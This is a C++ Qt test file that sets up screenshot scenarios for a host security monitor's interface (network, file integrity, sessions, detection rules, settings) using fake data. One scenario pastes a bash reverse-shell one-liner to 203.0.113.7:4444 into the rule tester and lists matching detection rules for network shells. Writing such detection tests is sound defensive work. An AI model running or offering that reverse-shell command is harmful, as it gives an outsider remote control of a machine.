#include "tests/ui/Shots.h"

#include <QApplication>
#include <QDialog>
#include <QLineEdit>
#include <QScrollArea>
#include <QTest>

#include "tests/ui/FakePages.h"
#include "tests/ui/FakeValues.h"
#include "ui/integrity/FilesPage.h"
#include "ui/network/NetworkPage.h"
#include "ui/rules/RuleTestBox.h"
#include "ui/rules/RulesPage.h"
#include "ui/sessions/SessionsPage.h"
#include "ui/settings/SettingEditor.h"
#include "ui/settings/SettingPanel.h"
#include "ui/settings/SettingsPage.h"
#include "ui/trust/TrustEntryDialog.h"
#include "ui/trust/TrustList.h"

namespace shots {

namespace {

ui::NetworkPage* network(ui::MainWindow& window) {
    fill(window);
    window.showPage(QStringLiteral("network"));
    return window.page<ui::NetworkPage>();
}

ui::RulesPage* rules(ui::MainWindow& window) {
    fill(window);
    window.showPage(QStringLiteral("rules"));
    return window.page<ui::RulesPage>();
}

ui::SettingsPage* settings(ui::MainWindow& window, const char* section) {
    fill(window);
    window.showPage(QStringLiteral("settings"));
    window.setProcesses(fake::processes());
    window.page<ui::SettingsPage>()->showSection(QLatin1String(section));
    return window.page<ui::SettingsPage>();
}

QWidget* openDialog(ui::MainWindow& window) {
    QApplication::processEvents();
    return window.findChild<QDialog*>();
}

QWidget* networkFlows(ui::MainWindow& window) {
    network(window)->select(105);
    return &window;
}

QWidget* networkListeners(ui::MainWindow& window) {
    network(window)->setKind(2);
    window.page<ui::NetworkPage>()->setBlocks({});
    window.page<ui::NetworkPage>()->select(108);
    return &window;
}

QWidget* networkHostile(ui::MainWindow& window) {
    network(window)->setConnections(fake::hostileConnections());
    return &window;
}

QWidget* networkEmpty(ui::MainWindow& window) {
    model::ConnectionChanges none;
    none.complete = true;
    network(window)->setBlocks({});
    window.page<ui::NetworkPage>()->setConnections(none);
    return &window;
}

QWidget* networkLoading(ui::MainWindow& window) {
    window.setHealth(fake::health());
    window.showPage(QStringLiteral("network"));
    return &window;
}

QWidget* networkForbidden(ui::MainWindow& window) {
    network(window);
    window.setPageProblem(QStringLiteral("network"),
                          QStringLiteral("Only an active local session may see who speaks."), true);
    return &window;
}

QWidget* networkSmall(ui::MainWindow& window) {
    window.resize(window.minimumSize());
    return networkFlows(window);
}

QWidget* dropDialog(ui::MainWindow& window) {
    network(window)->select(105);
    window.page<ui::NetworkPage>()->drop();
    return openDialog(window);
}

QWidget* blockDialog(ui::MainWindow& window) {
    network(window)->select(105);
    window.page<ui::NetworkPage>()->block(86'400);
    return openDialog(window);
}

QWidget* files(ui::MainWindow& window) {
    fill(window);
    window.showPage(QStringLiteral("files"));
    window.page<ui::FilesPage>()->select("/etc/ssh/sshd_config");
    return &window;
}

QWidget* filesChecking(ui::MainWindow& window) {
    files(window);
    model::IntegrityStatus status = fake::integrity();
    status.state = "verifying";
    status.doneFiles = 12'900;
    status.why = "/home/alice/.ssh/ cannot be watched while it changes: it is swept every minute.";
    window.page<ui::FilesPage>()->setStatus(status);
    return &window;
}

QWidget* filesCalm(ui::MainWindow& window) {
    files(window);
    window.page<ui::FilesPage>()->setDrifts({});
    return &window;
}

QWidget* filesSmall(ui::MainWindow& window) {
    window.resize(window.minimumSize());
    return files(window);
}

QWidget* sessions(ui::MainWindow& window) {
    fill(window);
    model::Alert guess = fake::simpleAlert(900, 820);
    guess.finding.ruleId = "brute-force";
    guess.finding.level = model::Level::Warning;
    guess.finding.message = "5 logins as root from 203.0.113.99 were refused within a minute.";
    guess.state = model::AlertState::Raised;
    window.upsertAlert(guess);
    window.showPage(QStringLiteral("sessions"));
    window.page<ui::SessionsPage>()->select("s1");
    return &window;
}

QWidget* sessionsSmall(ui::MainWindow& window) {
    window.resize(window.minimumSize());
    return sessions(window);
}

QWidget* sessionsEmpty(ui::MainWindow& window) {
    fill(window);
    window.page<ui::SessionsPage>()->setSessions({});
    window.showPage(QStringLiteral("sessions"));
    return &window;
}

QWidget* rulesChosen(ui::MainWindow& window) {
    rules(window)->select(QStringLiteral("shell-redirected-to-network"));
    return &window;
}

QWidget* rulesTested(ui::MainWindow& window) {
    ui::RulesPage* page = rules(window);
    page->select(QStringLiteral("reverse-shell"));
    page->testBox()->setCommandLine(
        QStringLiteral("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"));
    page->setTestResult(
        {{QStringLiteral("shell-redirected-to-network"), QStringLiteral("download-piped-to-shell")},
         {}});
    return &window;
}

QWidget* rulesForbidden(ui::MainWindow& window) {
    rules(window);
    window.setPageProblem(QStringLiteral("rules"), QStringLiteral("Not from another seat."), true);
    return &window;
}

QWidget* rulesLoading(ui::MainWindow& window) {
    window.setHealth(fake::health());
    window.showPage(QStringLiteral("rules"));
    return &window;
}

QWidget* rulesSmall(ui::MainWindow& window) {
    window.resize(window.minimumSize());
    return rulesTested(window);
}

QWidget* settingsResponse(ui::MainWindow& window) {
    settings(window, "response");
    return &window;
}

QWidget* settingsChanged(ui::MainWindow& window) {
    ui::SettingsPage* page = settings(window, "resources");
    const auto type = [page](const char* key, const char* text) {
        page->panel(QLatin1String(key))
            ->editor()
            ->findChild<QLineEdit*>()
            ->setText(QLatin1String(text));
    };
    type("resources.cpu_percent", "70");
    type("resources.memory_percent", "700");
    QApplication::processEvents();
    auto* scroll = page->findChild<QScrollArea*>();
    scroll->ensureWidgetVisible(page->panel(QStringLiteral("resources.memory_percent")), 0, 160);
    return &window;
}

QWidget* settingsSearch(ui::MainWindow& window) {
    settings(window, "response");
    window.page<ui::SettingsPage>()->focusSearch();
    QApplication::processEvents();
    QTest::keyClicks(QApplication::focusWidget(), QStringLiteral("mail"));
    return &window;
}

QWidget* whitelist(ui::MainWindow& window) {
    settings(window, "trust")->trust()->select("t2");
    return &window;
}

QWidget* trustDialog(ui::MainWindow& window) {
    settings(window, "trust");
    Q_EMIT window.page<ui::SettingsPage>()->trustWanted(
        {{{"path", "/usr/bin/bash"}, {"address", "203.0.113.7"}, {"port", "4444"}},
         {"reverse-shell"},
         {},
         "The nightly job of Bob"});
    return openDialog(window);
}

}  // namespace

void fill(ui::MainWindow& window) {
    window.setHealth(fake::health());
    window.setReachable(true);
    window.addMachineSamples(fake::samples(24 * 3600, 60, 4));
    window.addMachineSamples(fake::samples(600, 1, 4));
    for (int secondsAgo = 60; secondsAgo >= 0; secondsAgo -= 2)
        window.setProcesses(fake::processes(secondsAgo));
    window.setAlerts(fake::alerts());
    window.page<ui::NetworkPage>()->setConnections(fake::connections());
    window.page<ui::NetworkPage>()->setBlocks(fake::blocks());
    window.page<ui::FilesPage>()->setStatus(fake::integrity());
    window.page<ui::FilesPage>()->setDrifts(fake::drifts());
    window.page<ui::SessionsPage>()->setSessions(fake::sessions());
    window.page<ui::RulesPage>()->setRules(fake::rules());
    window.page<ui::SettingsPage>()->setSettings(fake::settings());
    window.page<ui::SettingsPage>()->setTrust(fake::trust());
}

const std::vector<Shot>& laterPages() {
    static const std::vector<Shot> all{
        {{"network", "Network", "connections, one chosen",
          "Who speaks with whom, how fast and since when; what is blocked below."},
         networkFlows},
        {{"network-listeners", "Network", "listeners",
          "Who waits for callers, and who could call: those open to anybody stand out."},
         networkListeners},
        {{"network-hostile", "Network", "hostile names",
          "Names with markup, newlines, bidi overrides and bad UTF-8 stay names."},
         networkHostile},
        {{"network-empty", "Network", "empty", "Nobody speaks with anybody."}, networkEmpty},
        {{"network-loading", "Network", "loading", "Before the first rows have arrived."},
         networkLoading},
        {{"network-forbidden", "Network", "no permission",
          "This person may not see the connections."},
         networkForbidden},
        {{"network-small", "Network", "smallest window", "Tools, list and blocks find room."},
         networkSmall},
        {{"dialog-drop", "Drop dialog", "one connection", "What is cut, and what is lost by it."},
         dropDialog},
        {{"dialog-block", "Block dialog", "one address, a day",
          "What is kept out, for how long, and that it can be taken back."},
         blockDialog},
        {{"files", "Files", "changes, one chosen",
          "What is no longer as it was accepted, who did it, and what it means."},
         files},
        {{"files-checking", "Files", "a check runs", "How far it is, and what limits the watch."},
         filesChecking},
        {{"files-calm", "Files", "empty", "Everything is as it was accepted."}, filesCalm},
        {{"files-small", "Files", "smallest window", "Tools, list and state find room."},
         filesSmall},
        {{"sessions", "Sessions", "now and history",
          "Who is and was logged in, from where, how long; which logins were refused."},
         sessions},
        {{"sessions-small", "Sessions", "smallest window", "List and refused logins find room."},
         sessionsSmall},
        {{"sessions-empty", "Sessions", "empty", "Nobody was seen logging in."}, sessionsEmpty},
        {{"rules", "Rules", "a Sigma rule chosen",
          "What is looked for, how often it was found; what the chosen rule means."},
         rulesChosen},
        {{"rules-tested", "Rules", "a command line tested",
          "Two rules match the pasted command line, each a click away."},
         rulesTested},
        {{"rules-forbidden", "Rules", "no permission", "This person may not see the rules."},
         rulesForbidden},
        {{"rules-loading", "Rules", "loading", "Before the rules have arrived."}, rulesLoading},
        {{"rules-small", "Rules", "smallest window", "List, details and test box find room."},
         rulesSmall},
        {{"settings", "Settings", "responses",
          "Each setting with its meaning, its range and its usual value."},
         settingsResponse},
        {{"settings-changed", "Settings", "one changed, one out of range",
          "What is used now stands beside the limit; what is wrong cannot be saved."},
         settingsChanged},
        {{"settings-search", "Settings", "search", "One word finds settings of any section."},
         settingsSearch},
        {{"settings-trust", "Settings", "whitelist", "What is trusted, for which rules, how long."},
         whitelist},
        {{"dialog-trust", "Trust dialog", "with preview",
          "The conditions, and which alerts of the last 7 days they would have silenced."},
         trustDialog},
    };
    return all;
}

}  // namespace shots
